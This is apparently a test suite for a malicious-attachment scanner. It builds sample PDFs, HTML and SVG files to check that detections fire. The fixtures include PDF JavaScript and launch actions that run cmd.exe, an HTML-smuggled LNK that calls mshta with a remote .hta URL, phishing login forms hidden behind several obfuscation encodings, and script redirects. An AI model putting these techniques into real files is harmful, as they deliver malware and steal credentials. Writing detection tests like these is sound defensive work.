import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateSync } from 'fflate';
import { buildCleanPdfInvoice, buildHtmlCredentialForm, buildHtmlSmuggling, buildLnk, buildPdf, buildZip } from '../../demo/artifacts/index.js';
import { analyze, mediumOrAbove } from './test-helpers.js';

test('pdf-javascript + pdf-openaction', () => {
  const a = analyze('a.pdf', buildPdf({ javascript: 'app.launchURL("https://x.example/")', openAction: true }));
  assert.ok(a.flags.includes('pdf-javascript') && a.flags.includes('pdf-openaction'));
  assert.ok(a.urls.includes('https://x.example/'));
});

test('pdf-launch is critical', () => {
  const a = analyze('a.pdf', buildPdf({ launch: 'cmd.exe', launchParams: '/c calc' }));
  assert.equal(a.findings.find((f) => f.id === 'pdf-launch')?.severity, 'critical');
  assert.match(a.findings.find((f) => f.id === 'pdf-launch')?.evidence ?? '', /cmd\.exe/);
});

test('pdf /URI links are returned for lookalike checks', () => {
  const a = analyze('a.pdf', buildPdf({ uris: ['https://upbit-login.example.com/a?b=(1)', 'https://example.org/'] }));
  assert.deepEqual(a.urls, ['https://upbit-login.example.com/a?b=(1)', 'https://example.org/']);
  assert.deepEqual(mediumOrAbove(a), []);
});

test('pdf-embedded-file', () => {
  assert.ok(analyze('a.pdf', buildPdf({ embeddedFile: { name: 'a.js', data: 'x' } })).flags.includes('pdf-embedded-file'));
});

test('pdf-hex-escaped-names: /J#61vaScript is still JavaScript', () => {
  const pdf = '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Names << /J#61vaScript 2 0 R >> >>\nendobj\n2 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n';
  assert.ok(analyze('a.pdf', pdf).flags.includes('pdf-javascript'));
});

test('pdf-objstm-hidden-javascript: action inside a compressed object stream', () => {
  const inner = Buffer.from('5 0 << /S /JavaScript /JS (this.exportDataObject({cName:"a", nLaunch:2})) >>');
  const z = deflateSync(inner);
  const head = Buffer.from(`%PDF-1.5\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${z.length} >>\nstream\n`, 'latin1');
  const tail = Buffer.from('\nendstream\nendobj\n1 0 obj\n<< /Type /Catalog /OpenAction 5 0 R >>\nendobj\n%%EOF\n', 'latin1');
  const a = analyze('a.pdf', new Uint8Array(Buffer.concat([head, z, tail])));
  assert.ok(a.flags.includes('pdf-javascript'));
});

test('clean invoice (OpenAction is a page destination) has no medium+ findings', () => {
  const a = analyze('invoice.pdf', buildCleanPdfInvoice());
  assert.equal(a.detectedType, 'pdf');
  assert.deepEqual(mediumOrAbove(a), []);
});

test('html-smuggling: payload decoded and analysed as a member', () => {
  const lnk = buildLnk({ target: 'C:\\Windows\\System32\\mshta.exe', args: 'https://cdn.example.net/a.hta' });
  const a = analyze('Statement.html', buildHtmlSmuggling({ payload: buildZip({ 'Statement.lnk': lnk }), filename: 'Statement.zip' }));
  assert.ok(a.flags.includes('html-smuggling'));
  assert.equal(a.members[0]?.detectedType, 'zip');
  assert.ok(a.flags.includes('lnk-lolbin'));
});

test('html-password-form names where credentials go', () => {
  const a = analyze('login.htm', buildHtmlCredentialForm('https://bithumb-security.example.info/auth.php'));
  assert.match(a.findings.find((f) => f.id === 'html-password-form')?.evidence ?? '', /bithumb-security/);
  assert.ok(a.urls.includes('https://bithumb-security.example.info/auth.php'));
});

test('html-meta-refresh to a remote host', () => {
  const a = analyze('a.html', '<html><head><meta http-equiv="refresh" content="0; url=https://evil.example/x"></head></html>');
  assert.ok(a.flags.includes('html-meta-refresh'));
});

test('benign html newsletter: no medium+ findings', () => {
  const a = analyze('news.html', '<!DOCTYPE html><html><body><h1>News</h1><a href="https://example.com/a">Read</a><img src="https://example.com/x.png"></body></html>');
  assert.deepEqual(mediumOrAbove(a), []);
  assert.ok(a.urls.includes('https://example.com/a'));
});

test('pdf-encrypted with an empty user password: URIs and JavaScript decrypted', () => {
  const a = analyze('a.pdf', buildPdf({ uris: ['https://portal-bb.example/login'], javascript: 'app.alert("x")', openAction: true, password: '' }));
  assert.ok(a.flags.includes('pdf-encrypted') && a.flags.includes('pdf-javascript'));
  assert.deepEqual(a.urls, ['https://portal-bb.example/login']);
  assert.match(a.findings.find((f) => f.id === 'pdf-javascript')?.evidence ?? '', /app\.alert/);
});

test('document-password-in-body: PDF opened with the password from the mail', () => {
  const pdf = buildPdf({ uris: ['https://portal-bb.example/resgate'], password: '123' });
  const a = analyze('Extrato.pdf', pdf, { bodyText: 'Veja o arquivo em anexo.\nSenha do PDF: 123' });
  assert.ok(a.flags.includes('document-password-in-body'));
  assert.deepEqual(a.urls, ['https://portal-bb.example/resgate']);
});

test('pdf with an unknown password: no ciphertext passed off as URLs or evidence', () => {
  const a = analyze('a.pdf', buildPdf({ uris: ['https://x.example/'], javascript: 'app.alert(1)', password: 'not-in-body' }), { bodyText: 'hello' });
  assert.deepEqual(a.urls, []);
  assert.ok(a.flags.includes('pdf-javascript'), 'keys are not encrypted, so the action is still seen');
  assert.ok(!a.flags.includes('document-password-in-body'));
});

test('html-redirect: remote link clicked on load', () => {
  const a = analyze('GET Bitcoin.html', '<html><body onload="document.getElementById(\'1\').click();"><a id="1" href="https://get-free-btc.example.com/index.html">Open</a></body></html>');
  assert.ok(a.flags.includes('html-redirect'));
});

const FORM = '<form action="https://kimchi-auth.example.net/p.php" method="post"><input type="email" name="e"><input type="password" name="p"></form>';
const obfuscations: [string, string][] = [
  ['unescape', `<html><script>document.write(unescape('${[...Buffer.from(FORM)].map((c) => `%${c.toString(16).padStart(2, '0')}`).join('')}'))</script></html>`],
  ['atob', `<html><script>document.write(atob("${Buffer.from(FORM).toString('base64')}"))</script></html>`],
  ['fromCharCode', `<html><script>document.write(String.fromCharCode(${[...FORM].map((c) => c.charCodeAt(0)).join(',')}))</script></html>`],
  ['entities', `<html><body>${[...FORM].map((c) => `&#${c.charCodeAt(0)};`).join('')}</body></html>`],
  ['unescape inside atob', `<html><script>eval(atob("${Buffer.from(`document.write(unescape('${[...Buffer.from(FORM)].map((c) => `%${c.toString(16)}`).join('')}'))`).toString('base64')}"))</script></html>`],
];
for (const [name, html] of obfuscations) {
  test(`html-password-form behind ${name} obfuscation`, () => {
    const a = analyze('Invoice.html', html);
    assert.ok(a.flags.includes('html-password-form'), `${name}: ${a.flags.join(',')}`);
    assert.ok(a.urls.includes('https://kimchi-auth.example.net/p.php'));
  });
}

test('svg with a script redirect is analysed like HTML', () => {
  const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href = "https://svg-redirect.example.com/?e=kim@exchange.example";</script></svg>';
  const a = analyze('voicemail.svg', svg);
  assert.equal(a.detectedType, 'svg');
  assert.ok(a.flags.includes('html-redirect'));
});

test('pdf-embedded-file: the embedded payload is extracted and analysed', () => {
  const a = analyze('a.pdf', buildPdf({ embeddedFile: { name: 'Invoice.pdf.js', data: 'new ActiveXObject("WScript.Shell").Run("calc")' } }));
  assert.equal(a.members[0]?.path, 'Invoice.pdf.js');
  assert.ok(a.flags.includes('script') && a.flags.includes('double-extension'));
});

test('e-invoice XML embedded in a PDF (ZUGFeRD/Factur-X) is low', () => {
  const a = analyze('rechnung.pdf', buildPdf({ embeddedFile: { name: 'factur-x.xml', data: '<?xml version="1.0"?><rsm:CrossIndustryInvoice/>' } }));
  assert.equal(a.findings.find((f) => f.id === 'pdf-embedded-file')?.severity, 'low');
  assert.deepEqual(mediumOrAbove(a), []);
});
